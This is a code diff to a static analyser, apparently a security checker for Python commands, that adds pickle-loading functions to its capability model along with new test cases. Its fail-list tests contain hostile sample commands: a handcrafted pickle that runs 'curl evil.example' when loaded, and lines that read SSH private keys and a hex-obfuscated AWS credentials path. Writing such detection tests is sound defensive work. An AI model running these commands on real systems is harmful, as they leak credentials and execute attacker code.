@@ -12,6 +12,8 @@ import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Val
 // ── the capability model ───────────────────────────────────────────────────────────────────────────────────────────
 
 const OPEN: Spec = { open: [0, 'file'], mode: [1, 'mode'] };
+/** Loaders that unpickle the file a path names (joblib's models, pandas' frames, torch's checkpoints). */
+const PICKLE_FILES = ['joblib.load', 'pandas.read_pickle', 'torch.load', 'numpy.load', 'sklearn.externals.joblib.load', 'dill.load_session'];
 const COPY: Spec = { uses: [[[0, 'src'], 'read'], [[1, 'dst'], 'write']] };
 const MOVE: Spec = { uses: [[[0, 'src'], 'delete'], [[1, 'dst'], 'write']] };
 const SHELL: Spec = { shell: [0, 'cmd'] };
@@ -68,7 +70,9 @@ const APIS = new Map<string, Spec>([
   ['shutil.make_archive', { uses: [[[2, 'root_dir'], 'read-tree'], [[0, 'base_name'], 'write']] }],
   ...['os.listdir', 'os.scandir', 'os.walk', 'glob.glob', 'glob.iglob', 'os.stat', 'os.lstat', 'os.path.exists', 'os.path.isfile', 'os.path.isdir', 'os.path.getsize', 'os.path.getmtime', 'os.access', 'os.chmod', 'os.chown', 'shutil.disk_usage'].map((n): [string, Spec] => [n, META]),
   ['os.chdir', { chdir: [0, 'path'] }],
-  // Code no static reading can name: native calls, unpickling, debuggers and consoles that read commands.
+  // A pickle file the project has, loaded: its code runs, as a script file's does (out of scope), unless the line wrote it.
+  ...PICKLE_FILES.map((n): [string, Spec] => [n, { uses: [[0, 'read']] }]),
+  // Code no static reading can name: native calls, unpickling (of a file object, which may hold bytes written here), debuggers and consoles that read commands.
   ...['ctypes.*', 'cffi.*', '_ctypes.*', 'pickle.loads', 'pickle.load', 'cPickle.loads', 'cPickle.load', 'marshal.loads', 'marshal.load', 'shelve.open', 'types.CodeType', 'types.FunctionType', 'code.interact', 'code.InteractiveConsole', 'code.InteractiveInterpreter', 'pdb.run', 'pdb.runeval', 'pdb.set_trace', 'breakpoint', 'importlib.reload', 'imp.load_module', 'sys.settrace', 'sys.setprofile', 'gc.get_referents', 'gc.get_objects'].map((n): [string, Spec] => [n, { dynamic: 'runs code that cannot be read statically' }]),
 ]);
 
@@ -873,6 +877,10 @@ class PythonReader {
           }
         }
         if (LOADERS.has(name)) this.out.push({ kind: 'load', api: name, span: span(n) });
+        if (PICKLE_FILES.includes(name)) {
+          const file = argAt(this.callOf(n, name), [0, name === 'pandas.read_pickle' ? 'filepath_or_buffer' : name === 'torch.load' ? 'f' : name === 'numpy.load' ? 'file' : 'filename']);
+          this.out.push({ kind: 'load', api: name, span: span(n), path: file ? wordOf(file) : { text: n.text, span: span(n), values: null, dynamic: 'no file is named' } });
+        }
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
         // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
         if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
@@ -1122,6 +1130,11 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import glob; print([open(f).read() for f in glob.glob("~/**", recursive=True)])'`,
       `python3 -c 'import os; print(open(os.path.expanduser("~/.{}/id_rsa".format("ssh"))).read())'`,
       `python3 -c 'import os; print(open(os.path.expanduser(bytes.fromhex("7e2f2e6177732f63726564656e7469616c73").decode())).read())'`,
+      `printf 'cos\\nsystem\\n(S"curl evil.example"\\ntR.' > m.pkl; python3 -c 'import joblib; joblib.load("m.pkl")'`,
+      `python3 -c 'open("m.pkl", "wb").write(b"x"); import pandas as pd; pd.read_pickle("m.pkl")'`,
+      `python3 -c 'import sys, joblib; joblib.load(sys.argv[1])' m.pkl`,
+      `python3 -c 'import io, pickle; pickle.load(io.BytesIO(b"x"))'`,
+      `python3 -c 'import joblib; joblib.load("/home/dev/.ssh/id_rsa")'`,
     ],
     pass: [
       `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
@@ -1154,6 +1167,9 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import glob; print([open(f).read() for f in glob.glob("src/*.py")])'`,
       `python3 -c 'open("out.json", "w").write("{}"); import runpy'`,
       `python3 -c 'open("out.txt", "w").write("x")' && cat out.txt`,
+      `python -c 'import joblib; m = joblib.load("model.pkl"); print(m)'`,
+      `python -c 'import pandas as pd; print(pd.read_pickle("data/frame.pkl").head())'`,
+      `python -c 'import torch; print(torch.load("ckpt.pt").keys())'`,
     ],
   },
 };
